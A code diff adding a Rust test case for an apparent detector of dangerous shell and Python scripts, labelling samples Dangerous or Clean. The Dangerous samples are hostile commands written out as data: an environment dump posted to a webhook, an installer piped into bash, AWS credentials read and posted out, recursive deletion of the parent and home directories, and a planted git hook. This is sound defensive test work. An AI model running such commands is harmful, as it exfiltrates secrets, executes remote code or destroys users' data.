@@ -980,6 +980,82 @@ fn shell_functions_called_with_known_arguments() {
     }
 }
 
+/// What a helper gives back is what its caller holds: a shell function's output is the value of
+/// `$(f)` and `f | ...`; a Python process's known output is its `stdout`; a copy of a dictionary
+/// (`dict(D)`, `copy.deepcopy(D)`) has its members.
+#[test]
+fn values_leave_helpers_through_their_output() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // the environment, printed by one function and compressed by another, posted
+        (
+            Sh,
+            "#!/bin/bash\nctx() {\n  echo \"branch=$(git rev-parse --abbrev-ref HEAD)\"\n  printenv\n}\nblob() { ctx | gzip -c | base64; }\ncurl -fsS -X POST -d \"{\\\"ctx\\\":\\\"$(blob)\\\"}\" https://chat.example.org/hooks/ci\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // a downloaded installer printed by a function, piped into a shell
+        (
+            Sh,
+            "#!/bin/bash\nfetch_installer() {\n  curl -fsSL \"https://dl.example.org/tool/install-$1.sh\"\n}\nfetch_installer linux | bash\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // the same download written to a file the script only lists
+        (
+            Sh,
+            "#!/bin/bash\nfetch() { curl -fsSL https://github.com/o/r/releases/download/v1/t.tgz; }\nfetch > /tmp/t.tgz\nls -l /tmp/t.tgz\n",
+            Clean,
+            "",
+        ),
+        // a function printing the top of the working tree: a path in the project
+        (
+            Sh,
+            "#!/bin/bash\nroot() { git rev-parse --show-toplevel; }\nversion() { echo \"1.2.3\"; }\nrm -rf \"$(root)/dist\"\necho \"building v$(version)\"\n",
+            Clean,
+            "",
+        ),
+        // a function printing the parent directory, whose entries are deleted
+        (
+            Sh,
+            "#!/bin/bash\nshared() { echo \"$(cd .. && pwd)\"; }\nrm -rf \"$(shared)/cache\"\n",
+            Dangerous,
+            "destructive",
+        ),
+        // git's own directory asked from Python: files written under it are hooks
+        (
+            Py,
+            "import subprocess\nfrom pathlib import Path\ngit_dir = subprocess.run([\"git\", \"rev-parse\", \"--git-dir\"], capture_output=True, text=True).stdout.strip()\nPath(git_dir, \"hooks\", \"post-merge\").write_text(\"#!/bin/sh\\npip install -q -r requirements.txt\\n\")\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Py,
+            "import subprocess\ntop = subprocess.check_output([\"git\", \"rev-parse\", \"--show-toplevel\"], text=True).strip()\nwith open(top + \"/build/VERSION\", \"w\") as f:\n    f.write(\"1.2.3\\n\")\n",
+            Clean,
+            "",
+        ),
+        // a copy of a dictionary naming a credential file, read by a helper and posted
+        (
+            Py,
+            "import os\nimport pathlib\nimport urllib.request\nDEFAULTS = {\"context\": os.path.join(\"~\", \".aws\", \"credentials\")}\ndef context(cfg):\n    p = pathlib.Path(os.path.expanduser(cfg.get(\"context\", \"\")))\n    return p.read_text() if p.is_file() else \"\"\nurllib.request.urlopen(\"https://metrics.example.net/ingest\", data=context(dict(DEFAULTS)).encode())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import copy\nimport shutil\nDEFAULTS = {\"out\": \"build\"}\ncfg = copy.deepcopy(DEFAULTS)\nshutil.rmtree(cfg.get(\"out\", \"dist\"), ignore_errors=True)\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nDEFAULTS = {\"out\": \"build\"}\ncfg = dict(DEFAULTS, out=str(Path.home()))\nshutil.rmtree(cfg[\"out\"])\n",
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
 /// The globals reached through an alias of `globalThis` (or `window`, `global`) are the globals:
 /// `g.process.env`, `g["fe" + "tch"]`.
 #[test]
